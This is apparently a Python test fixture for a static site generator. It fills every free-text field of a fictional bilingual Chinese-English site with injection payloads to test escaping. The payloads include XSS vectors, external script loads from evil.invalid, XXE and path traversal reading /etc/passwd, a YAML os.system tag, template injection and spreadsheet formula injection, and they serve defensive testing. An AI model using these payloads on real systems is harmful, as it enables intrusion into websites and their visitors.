"""Texts that try to be more than text, and a made-up site that has them in every field."""

from __future__ import annotations

import hashlib
import shutil
import types
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from enum import Enum
from pathlib import Path
from typing import Annotated, Any, Literal, Union, get_args, get_origin

import yaml
from pydantic import BaseModel

from generator.fidelity import reassemble
from generator.load import parse_content, read_files
from generator.model import (
    Adding,
    Commitment,
    Department,
    Edition,
    History,
    Location,
    Permalinks,
    Plan,
    Record,
    Synonyms,
    Term,
    Topic,
)
from generator.root_files import SETTINGS, Publisher

from .conftest import ROOT, SMALL

FILES: Mapping[str, Any] = {
    "content/2025/edition.yml": Edition,
    "content/2025/plans/01.yml": Plan,
    "content/2025/plans/02.yml": Plan,
    "content/2025/adding.yml": Adding,
    "content/departments.yml": tuple[Department, ...],
    "content/locations.yml": tuple[Location, ...],
    "content/glossary.yml": tuple[Term, ...],
    "content/topics.yml": tuple[Topic, ...],
    "content/commitments.yml": tuple[Commitment, ...],
    "content/synonyms.yml": tuple[Synonyms, ...],
    "content/translations.yml": dict[str, Record],
    "content/permalinks.yml": Permalinks,
    "content/history.yml": History,
    SETTINGS: Publisher,
}
"""Every file that has a model, in the made-up site."""

ATTACKS: Mapping[str, str] = {
    "element": "<script>hacked()</script>",
    "handler": "<img src=x onerror=hacked()><svg onload=hacked()>",
    "attribute": "\" onmouseover=\"hacked()\" autofocus onfocus='hacked()' x='",
    "end": "</p></article></title></textarea></style></script><script>hacked()</script>",
    "frame": '<iframe srcdoc="<script>parent.hacked()</script>"></iframe><object data=//evil.invalid></object>',
    "elsewhere": "<base href=//evil.invalid/><meta http-equiv=refresh content=';url=//evil.invalid/'>",
    "loaded": "<script src=//evil.invalid/x.js></script><link rel=stylesheet href=//evil.invalid/x.css>",
    "style": "<style>*{background:url(//evil.invalid/)}</style><b style=position:fixed>",
    "form": "<form action=//evil.invalid/><button formaction=javascript:hacked()>",
    "link": "<a href=javascript:hacked()>x</a> javascript:hacked() data:text/html,<script>hacked()</script>",
    "trusted": "<div><mark><small>x</small></mark>",  # what the Trusted Types of our pages let through
    "xml": "]]><![CDATA[ &amp; &lt; &nosuch; <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> <?xml?> <!-- --",
    "template": "{{ hacked() }}{% raw %}{# x #}{{ config.items() }}${hacked()}",
    "format": "{} {x} {0.__class__} %s %(x)s $& $` $' \\g<x>".replace("0", "n"),
    "markdown": "[x](javascript:hacked()) ![x](//evil.invalid/x.png) **x** `x` | x # x {: onclick=hacked() }",
    "yaml": "*alias &anchor !!python/object:os.system {a: b} [c] - d: e # f",
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "pattern": "(((((a+)+)+)+$ [^*|?.{,} \\",
    "tex": "\\input{/etc/passwd} % } @misc{x, ~ _ ^ # $",
    "path": "../../../../etc/passwd ..\\..\\x %00 file:///etc/passwd C:\\x".replace("00", "%"),
    "placeholder": "FRAME-TITLE FRAME-DESCRIPTION FRAME-BODY <!--FRAME-HEAD--> frame-path/frame-path/frame-path-items/",
    "right to left": "שלום مرحبا",
    "rare characters": "欸嗯呣哼噷㐀鿿𠀀 é İ ß ﬁ",
}
"""Without figures, so that English and Chinese agree, and without a mark that parts printed lists."""
EVERYTHING = " ".join(ATTACKS.values())
FORMULAS = ("=", "+", "-", "@", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What may begin a formula in a spreadsheet."""
FORMULA = "hacked()|cmd'/C calc'!A"
OFFICIAL = {
    "划": ATTACKS["element"],
    "好": ATTACKS["handler"],
    "局": ATTACKS["attribute"],
    "街": ATTACKS["end"],
    "路": ATTACKS["frame"],
    "成": ATTACKS["template"],
    "增": ATTACKS["link"],
    "取": ATTACKS["xml"],
    "块": ATTACKS["markdown"],
    "出": ATTACKS["tex"],
    "造": ATTACKS["elsewhere"],
    "动": ATTACKS["trusted"],
    "企": ATTACKS["loaded"],
    "力": ATTACKS["prototype"],
    "浓": ATTACKS["format"],
}
"""Follows these characters wherever official text has them, so that what quotes it still does."""
ODD = (
    *("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f"),
    *("\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\ufeff", "\u00ad", "\u180e", "\U000e0041"),
    *("\u034f", "\u115f", "\u1160", "\u17b4", "\u180b", "\u3164", "\ufe0f", "\uffa0", "\U000e0101"),
    *("\x00", "\x01", "\x07", "\x08", "\t", "\n", "\x0b", "\r", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u2029"),
    *("\ue000", "\ufdd0", "\ufffe", "\uffff", "\ud800", "\udfff", "\u00a0", "\u2003", "\u3000"),
)
"""Characters of which no text may have any: they turn the direction of writing, do not show, or end lines."""

Leaf = tuple[str, ...]
"""The keys that lead to a value; `*` for every entry of a list or of a mapping of any keys."""


def leaves(kind: Any, path: Leaf = (), closed: bool = False) -> Iterator[tuple[Leaf, bool]]:
    """Every value in a kind of file that is no mapping or list, and whether it is free text."""
    origin, inner = get_origin(kind), get_args(kind)
    if origin is Annotated:
        yield from leaves(inner[0], path, closed or any(map(_restricts, inner[1:])))
    elif origin in (Union, types.UnionType):
        found = [leaf for one in inner if one is not type(None) for leaf in leaves(one, path, closed)]
        yield from dict.fromkeys(found)
    elif origin is tuple:
        yield from leaves(inner[0], (*path, "*"), closed)
    elif origin is dict:
        yield from leaves(inner[1], (*path, "*"), closed)
    elif isinstance(kind, type) and issubclass(kind, BaseModel):
        for name, field in kind.model_fields.items():
            yield from leaves(field.annotation, (*path, name), any(map(_restricts, field.metadata)))
    else:
        assert kind in (str, int, bool) or kind.__name__ == "Decimal" or origin is Literal or issubclass(kind, Enum)
        yield path, kind is str and not closed


def _restricts(constraint: Any) -> bool:
    """Whether a constraint says what a text may consist of."""
    return any(map(_restricts, getattr(constraint, "metadata", ()))) or bool(getattr(constraint, "pattern", None))


def values_of(data: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[tuple[str | int, ...], Any]]:
    """Every value of a file that is no mapping or list, with its path."""
    if isinstance(data, dict | list):
        for step, value in data.items() if isinstance(data, dict) else enumerate(data):
            yield from values_of(value, (*path, step))
    else:
        yield path, data


def leaf_of(path: tuple[str | int, ...], kinds: Mapping[Leaf, bool]) -> Leaf:
    """The field of the model to which a value belongs."""
    (found,) = [
        leaf
        for leaf in kinds
        if len(leaf) == len(path) and all(own in ("*", step) for own, step in zip(leaf, path, strict=True))
    ]
    return found


def changed(data: Any, change: Callable[[tuple[str | int, ...], Any], Any], path: tuple[str | int, ...] = ()) -> Any:
    """The data with `change` made to every value that is no mapping or list."""
    if isinstance(data, dict):
        return {key: changed(value, change, (*path, key)) for key, value in data.items()}
    if isinstance(data, list):
        return [changed(value, change, (*path, position)) for position, value in enumerate(data)]
    return change(path, data)


# A site in which every field is filled


def full(files: Mapping[str, bytes]) -> dict[str, Any]:
    """The data of the small site with every optional field filled, by file; all of it made up."""
    data = {name: yaml.safe_load(files[name]) for name in FILES if name in files}
    note = {"zh": "原文如此。", "en": "Printed so."}
    first, second = (data[f"content/2025/plans/{name}.yml"]["measures"][0] for name in ("01", "02"))
    first["note"] = note
    roads = next(entry for entry in first["content"] if entry.get("item") == "1.1.2")
    roads["targets"][0]["unmeasurable"] = None
    del roads["targets"][0]["unmeasurable"]
    site = next(entry for entry in first["content"] if entry.get("item") == "1.1.3")
    site["targets"][0]["unmeasurable"] = {"zh": "没有统计。", "en": "No statistics."}
    source = {"title": "通告", "publisher": "某报", "date": "2026-03-01", "url": "https://news.example.org/a?b=1&c='2'"}
    roads["progress"] = [
        {
            "date": "2026-03-05",
            "status": "under_way",
            "reached": [{"target": "1.1.2-a", "value": 600}],
            "note": {"zh": "建了一些。", "en": "Some were built."},
            "sources": [source | {"archived": "https://archive.example.org/x"}],
        }
    ]
    second["content"][0]["not_targets"] = ["PM2.5浓度"]
    data["content/2025/adding.yml"] = {
        "overlaps": [
            {"whole": "1.1.1-a", "targets": ["1.1.1-a", "1.1.3-a"], "reason": {"zh": "可能重叠。", "en": "May overlap."}}
        ],
        "sums": [
            {
                "targets": ["1.1.2-a", "2.1.2-a"],
                "what": {"zh": "新增", "en": "additions"},
                "reason": {"zh": "互不相同。", "en": "They differ."},
            }
        ],
    }
    data["content/departments.yml"][0] |= {"note": note}
    data["content/locations.yml"][1] |= {"note": note}
    terms = data["content/glossary.yml"]
    terms[1]["aliases"] = ["三力"]
    for term in terms:
        term["accepted"] = [term["term"]["en"], *term.get("accepted", ())]
    data["content/synonyms.yml"] = [{"zh": ["马路", "公路"], "en": ["road", "street"]}]
    data["content/translations.yml"] = {
        "topics/touzi/name": {"state": "reviewed", "zh": "0" * 12, "en": "0" * 12, "reviewer": "Somebody"}
    }
    ended = {"date": "2026-01-31", "why": {"zh": "没有了。", "en": "Gone."}, "see": "locations/"}
    data["content/permalinks.yml"] = {
        "published": {"locations/old/": "旧地", "departments/gone/": "旧局", "glossary/#gone": "旧词", "topics/old/": "旧"},
        "moved": {"locations/old/": "locations/constructor/", "topics/old/": "topics/constructor/"},
        "ended": [ended | {"path": "departments/gone/"}, ended | {"path": "glossary/#gone"}],
    }
    data["content/history.yml"] = {
        "published": "2026-01-01",
        "revisions": [
            {"date": "2026-02-01", "what": what, "language": language, "before": "某个说法", "after": "A way to say it"}
            for what, language in (
                ("2025/1.1.2", "en"),
                ("2025/1.1.2/headline", "zh"),
                ("2025/1.1.2/topics", None),
                ("2025/1.1.2-a/comparator", None),
                ("departments/constructor/name", "en"),
                ("locations/constructor/name", "zh"),
            )
        ],
    }
    for one in data["content/history.yml"]["revisions"]:
        if one["language"] is None:
            del one["language"]
    data[SETTINGS] = {
        "contact": "mailto:hacked()@example.org",
        "security_expires": "2027-01-01T00:00:00Z",
        "repository": "https://code.example.org/owner/name",
    }
    return data


RENAMED = {"daolu", "dongmenlu", "ge-zhuan-qi", "wancheng", "ge-jiedao"}
"""Slugs that become `constructor`, the one name of JavaScript's objects that can be a slug."""
HEADLINES = {"zh": "<svg onload=hacked()>", "en": f"{ATTACKS['element']} {ATTACKS['handler']}"[:60]}
"""What fits into a headline."""


def attacked(data: Mapping[str, Any]) -> dict[str, Any]:
    """The data with attacks in every text that is free."""
    turn = 0

    def change(name: str, kinds: Mapping[Leaf, bool], path: tuple[str | int, ...], value: Any) -> Any:
        nonlocal turn
        if isinstance(value, str) and value in RENAMED:
            return "constructor"
        if not isinstance(value, str) or not kinds[leaf_of(path, kinds)]:
            return value
        if official(name, path):
            return "".join(character + OFFICIAL.get(character, "") for character in value)
        turn += 1
        start = FORMULAS[turn % len(FORMULAS)]
        if path[-2] == "headline":
            return start + HEADLINES[str(path[-1])]
        if path[-2:] == ("accepted", 0):
            return value  # the rendering that the English has
        return f"{start}{FORMULA} {value} {EVERYTHING}"

    made = {}
    for name, own in data.items():
        kinds = dict(leaves(FILES[name]))
        made[name] = changed(own, lambda path, value, name=name, kinds=kinds: change(name, kinds, path, value))
    return made


def official(name: str, path: tuple[str | int, ...]) -> bool:
    """Whether a text is of the document, or must be found in it."""
    keys = [step for step in path if isinstance(step, str)]
    if "/plans/" in name:
        ours = {"headline", "summary", "what", "note", "unmeasurable", "keywords", "progress"} & set(keys)
        return not ours and (keys[-1] != "en")
    if name.endswith("edition.yml"):
        return keys in (["title", "zh"], ["preamble", "zh"])
    own = {
        "departments": ["spellings"],
        "locations": ["name", "zh"],
        "glossary": ["term", "zh"],
        "commitments": ["verbs"],
    }.get(Path(name).stem)
    return keys == own or (keys == ["aliases"] and name.endswith("glossary.yml"))


def make(root: Path) -> None:
    """Write the attacked site into the folder `root`, with its own words and settings."""
    shutil.copytree(SMALL / "content", root / "content")
    shutil.copytree(ROOT / "content" / "pages", root / "content" / "pages")
    shutil.copytree(ROOT / "site_config", root / "site_config")
    for name in ("templates", "mkdocs.yml"):
        (root / name).symlink_to(ROOT / name)
    _write_words(root)
    data = attacked(full(read_files(SMALL)))
    for name, own in data.items():
        (root / name).write_text(dumped(own), encoding="utf-8")
    content, _ = parse_content(read_files(root))
    assert content is not None
    text = reassemble(replace(content.editions[0]))
    (root / "content/2025/source.txt").write_text(text, encoding="utf-8")
    data["content/2025/edition.yml"]["source_sha256"] = hashlib.sha256(text.encode()).hexdigest()
    (root / "content/2025/edition.yml").write_text(dumped(data["content/2025/edition.yml"]), encoding="utf-8")


def _write_words(root: Path) -> None:
    """Put attacks into every interface word, and into what a prose page says of itself."""
    attack = ATTACKS["end"] + ATTACKS["handler"]
    for path in (root / "site_config/words").glob("*.yml"):
        words = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(dumped(changed(words, lambda path, word: _worded(path, word, attack))), encoding="utf-8")
    path = root / "site_config/languages.yml"
    languages = yaml.safe_load(path.read_text(encoding="utf-8"))
    path.write_text(dumped([one | {"name": one["name"] + attack} for one in languages]), encoding="utf-8")
    for path in (root / "content/pages").glob("*/about.md"):
        text = path.read_text(encoding="utf-8")
        for key in ("title", "description"):
            text = text.replace(f"\n{key}: ", f"\n{key}: x {ATTACKS['attribute']} ", 1)
        path.write_text(text, encoding="utf-8")


def _worded(path: tuple[str | int, ...], word: Any, attack: str) -> Any:
    return word + attack if isinstance(word, str) and path != ("locale",) else word


def dumped(data: Any) -> str:
    """The data as YAML, every value on a line of its own."""
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1_000_000)
